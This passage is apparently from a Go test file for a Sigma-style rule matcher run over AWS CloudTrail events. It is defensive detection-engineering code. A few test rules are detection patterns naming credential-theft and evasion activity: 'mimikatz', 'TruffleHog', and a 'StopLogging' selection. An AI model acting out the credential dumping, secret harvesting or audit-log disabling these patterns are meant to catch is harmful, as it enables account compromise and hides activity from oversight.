		{"not in the policy", with(t, putUserPolicy, map[string]any{"requestParameters.policyDocument": `{"Action":"s3:PutObject"}`}), false},
	})
	checkMatches(t, `
selection:
    requestParameters|contains|all:
        - '"Effect": "Allow"'
        - '"policyName":"inline"'
condition: selection`, []matchCase{
		{"each value may match the text or a nested string", putUserPolicy, true},
	})
	checkMatches(t, `
selection:
    requestParameters: 'mallory'
condition: selection`, []matchCase{
		{"equality does not look inside the object", putUserPolicy, false},
	})
}

func TestKeywords(t *testing.T) {
	checkMatches(t, `
keywords:
    - 'MALLORY'
    - 'mimikatz'
condition: keywords`, []matchCase{
		{"in a nested value, any case", evCreateAccessKey, true},
		{"nowhere", evDeleteBucket, false},
	})
	checkMatches(t, `
keywords:
    - 'accessKeyId'
condition: keywords`, []matchCase{
		{"object keys are not searched", evCreateAccessKey, false},
	})
	checkMatches(t, `
keywords:
    - 312
condition: keywords`, []matchCase{
		{"a number value", evPutBucketPolicy, true},
		{"absent", evDeleteBucket, false},
	})
	checkMatches(t, `
keywords:
    - 'mal*ry'
condition: keywords`, []matchCase{
		{"wildcard inside a keyword", evCreateAccessKey, true},
	})
	checkMatches(t, `
keywords:
    '|all':
        - 'mallory'
        - 'Darwin'
condition: keywords`, []matchCase{
		{"all: both present", evCreateAccessKey, true},
		{"all: one absent", with(t, evCreateAccessKey, map[string]any{"userAgent": "aws-cli/2.15.30"}), false},
	})
	checkMatches(t, `
keywords:
    - '<YOUR-BUCKET-NAME>'
    - 'said "hi"'
condition: keywords`, []matchCase{
		{"JSON escapes are decoded (\\u003c)", with(t, evPutBucketPolicy, map[string]any{"requestParameters.note": "arn:aws:s3:::<YOUR-BUCKET-NAME>/*"}), true},
		{"escaped quotes are decoded", with(t, evPutBucketPolicy, map[string]any{"requestParameters.note": `he said "hi"`}), true},
	})
	checkMatches(t, `
keywords: 'TruffleHog'
condition: keywords`, []matchCase{
		{"a single plain value is a keyword", evGetCallerIdentityTruffleHog, true},
		{"a single plain value, absent", evCreateAccessKey, false},
	})
	checkMatches(t, `
keywords:
    '|re': 'mall[aeiou]ry'
condition: keywords`, []matchCase{
		{"keyword regex", evCreateAccessKey, true},
		{"keyword regex, no match", evDeleteBucket, false},
	})
}

func TestListOfMapsIsOr(t *testing.T) {
	checkMatches(t, `
selection:
    - eventName: StopLogging
      userIdentity.type: IAMUser
    - userAgent|contains: TruffleHog
condition: selection`, []matchCase{
		{"second map", evGetCallerIdentityTruffleHog, true},
		{"first map half matches", evStopLoggingRoot, false},
		{"first map", with(t, evStopLoggingRoot, map[string]any{"userIdentity.type": "IAMUser"}), true},
	})
}

func TestExpandIsRejected(t *testing.T) {
	err := compileError(t, `
selection:
    userIdentity.userName|expand: '%Administrators%'
condition: selection`)
	if !strings.Contains(err.Error(), "expand") || !strings.Contains(err.Error(), "placeholder") {
		t.Errorf("error %q does not explain expand", err)
	}
}
